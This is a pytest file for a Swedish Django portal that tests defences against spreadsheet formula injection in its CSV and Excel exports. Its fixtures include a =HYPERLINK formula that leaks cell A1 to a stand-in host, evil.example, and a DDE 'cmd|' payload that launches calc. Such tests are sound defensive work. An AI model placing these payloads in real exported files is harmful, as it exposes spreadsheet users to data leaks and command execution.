"""Every CSV and Excel file the portal hands out keeps a formula-like text as text.

Each export gets a `=HYPERLINK(...)` (and friends) where a user or an administrator can type
it; the cell must arrive with the apostrophe that makes a spreadsheet read it as text, and an
Excel cell must be a string, never a formula.
"""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
import tablib
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse, reverse_lazy

from ideas.models import Municipality
from partners.models import Partner
from portal.spreadsheets import (
    CONTENT_TYPES,
    csv_delimiter,
    decode_text,
    spreadsheet_cell,
    spreadsheet_response,
    spreadsheet_value,
)
from tests.factories import (
    CriterionFactory,
    IdeaFactory,
    PartnerFactory,
    ThemeFactory,
    municipality,
)
from tests.triage.test_meeting import _ready_idea

pytestmark = pytest.mark.django_db
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka här")'


@pytest.mark.parametrize(
    "text",
    [
        LINK,
        "+46 70 123",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "   =1+1",
        "\t=1+1",
        " \t @SUM(1)",
        "\tnågot",
        "\rnågot",
        "\n -1",
    ],
)
def test_a_text_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert spreadsheet_cell(text) == "'" + text
    assert spreadsheet_value(spreadsheet_cell(text)) == text


@pytest.mark.parametrize(
    "value", ["Fiber till byn", "e-post: a@b.se", "1-2 dagar", "", "'citat", 5, -3, 2.5]
)
def test_ordinary_values_stay_as_they_are(value):
    assert spreadsheet_cell(value) == value
    assert spreadsheet_value(value) == value


def csv_rows(response, delimiter: str = ",") -> list[list[str]]:
    text = b"".join(response).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=delimiter))


def swedish_csv_rows(response) -> list[list[str]]:
    return csv_rows(response, delimiter=";")


def xlsx_rows(response) -> list[list]:
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response))).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value}"
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def test_the_partner_registry_export_keeps_formulas_as_text_and_imports_back_unchanged(
    coordinator_client,
):
    partner = PartnerFactory(
        slug="formel", name="@Föreningen", description=LINK, phone="+46 580 123 45"
    )

    for file_format, read in (("csv", swedish_csv_rows), ("xlsx", xlsx_rows)):
        response = coordinator_client.get(reverse("partners:export", args=[file_format]))
        header, row = read(response)[:2]
        values = dict(zip(header, row, strict=False))
        assert values["Beskrivning"] == "'" + LINK, file_format
        assert values["Namn"] == "'@Föreningen"
        assert values["Telefon"] == "'+46 580 123 45"
        response = coordinator_client.get(
            reverse("partners:export", args=[file_format]), {"codes": "1"}
        )
        header, row = (csv_rows if file_format == "csv" else read)(response)[:2]
        values = dict(zip(header, row, strict=False))
        assert values["description"] == "'" + LINK, file_format

    exported = b"".join(coordinator_client.get(reverse("partners:export", args=["csv"])))
    preview = coordinator_client.post(
        reverse("partners:import"), {"file": SimpleUploadedFile("again.csv", exported)}
    )
    coordinator_client.post(reverse("partners:import_confirm"), {"token": preview.context["token"]})
    partner = Partner.objects.get(pk=partner.pk)
    assert (partner.description, partner.name, partner.phone) == (
        LINK,
        "@Föreningen",
        "+46 580 123 45",
    )


def test_the_dashboard_export_keeps_formulas_as_text(coordinator_client):
    IdeaFactory(title="Bybuss", description=LINK, need="  -1+1", submitter_name="@Anna")

    for file_format, read in (("csv", csv_rows), ("xlsx", xlsx_rows)):
        response = coordinator_client.get(
            reverse("triage:export", args=[file_format]), {"personal": "1"}
        )
        header, row = read(response)[:2]
        values = dict(zip(header, row, strict=False))
        assert values["Idén"] == "'" + LINK, file_format
        assert values["Behovet eller problemet"] == "'  -1+1"
        assert values["Namn"] == "'@Anna"
        assert values["Titel"] == "Bybuss"


def test_the_agenda_export_keeps_formulas_as_text_in_titles_and_criteria(coordinator_client):
    CriterionFactory(name="=Kriterium()", weight=1)
    idea = _ready_idea(LINK)

    header, row = csv_rows(coordinator_client.get(reverse("triage:meeting_csv")))[:2]

    assert row[0] == idea.reference
    assert row[1] == "'" + LINK
    assert "'=Kriterium()" in header


def test_the_open_data_export_keeps_formulas_as_text(committee_client):
    place = municipality("1880")
    Municipality.objects.filter(pk=place.pk).update(name=LINK)  # an administrator's edit
    for _ in range(3):
        IdeaFactory(municipality=place, themes=[ThemeFactory(slug="formel")])

    rows = csv_rows(committee_client.get(reverse("triage:open_data_csv")))

    assert any(row[2] == "'" + LINK for row in rows[1:])
    assert all(not cell.startswith("=") for row in rows for cell in row)


@pytest.mark.parametrize(
    ("url", "file_format"),
    [
        (reverse_lazy("partners:export", args=["csv"]), "csv"),
        (reverse_lazy("partners:export", args=["xlsx"]), "xlsx"),
        (reverse_lazy("triage:export", args=["csv"]), "csv"),
        (reverse_lazy("triage:export", args=["xlsx"]), "xlsx"),
        (reverse_lazy("triage:meeting_csv"), "csv"),
        (reverse_lazy("triage:open_data_csv"), "csv"),
    ],
)
def test_every_export_is_sent_with_the_one_content_type_of_its_format(
    coordinator_client, url, file_format
):
    response = coordinator_client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"] == CONTENT_TYPES[file_format]
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="')
    assert disposition.endswith(f'.{file_format}"')


def test_a_swedish_csv_has_semicolons_decimal_commas_and_safe_cells():
    dataset = tablib.Dataset(headers=["Namn", "Andel", "Antal"])
    dataset.append(["=HYPERLINK()", 2.5, 3])
    dataset.append([Decimal("0.75"), Decimal("12.5"), -4])
    response = spreadsheet_response(dataset, file_format="csv", filename="x", swedish=True)
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    assert text[1:].splitlines() == ["Namn;Andel;Antal", "'=HYPERLINK();2,5;3", "0,75;12,5;-4"]
    plain = spreadsheet_response(dataset, file_format="csv", filename="x")
    assert plain.content.decode("utf-8")[1:].splitlines()[1] == "'=HYPERLINK(),2.5,3"


@pytest.mark.parametrize(
    ("content", "text"),
    [
        ("\ufeffNamn;Ort".encode(), "Namn;Ort"),
        (b"Namn;Ort", "Namn;Ort"),
        ("Föreningen;Åsbro;Hällefors".encode("cp1252"), "Föreningen;Åsbro;Hällefors"),
    ],
)
def test_a_csv_is_read_as_utf_8_with_or_without_bom_or_else_as_windows_1252(content, text):
    assert decode_text(content) == text


@pytest.mark.parametrize(
    ("first_line", "delimiter"),
    [("a;b;c\n1,5;2;3", ";"), ("a,b,c\n1;2", ","), ("a\tb", "\t"), ("a", ",")],
)
def test_the_separator_is_the_one_the_headings_are_split_by(first_line, delimiter):
    assert csv_delimiter(first_line) == delimiter
